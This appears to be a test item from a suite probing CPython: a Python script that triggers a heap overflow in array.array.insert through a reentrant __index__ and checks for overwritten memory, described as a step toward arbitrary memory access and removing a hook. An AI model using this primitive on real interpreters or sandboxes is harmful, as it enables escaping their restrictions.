# family: wall (memory: array.array stores convert after fixing where they write)   goal: memory
# CPython 3.11's array stores resize and fix the index, then run the item's
# __index__; one that shrinks the array makes the store write past its new buffer,
# into the bytearrays allocated meanwhile (a heap overflow of chosen offset and
# value: the primitive that builds arbitrary memory access and removes the hook).
import array

found = []


class Index:
    calls = 0

    def __index__(self):
        Index.calls += 1
        if Index.calls == 2:      # insert converts twice: to check, then to store
            del a[1:]
            for _ in range(64):
                found.append(bytearray(7))
        return 65


a = array.array("b", bytes(200))
try:
    a.insert(100, Index())
except Exception:
    pass
if any(any(b) for b in found):
    print("MEMORY-" + "OVERWRITTEN")
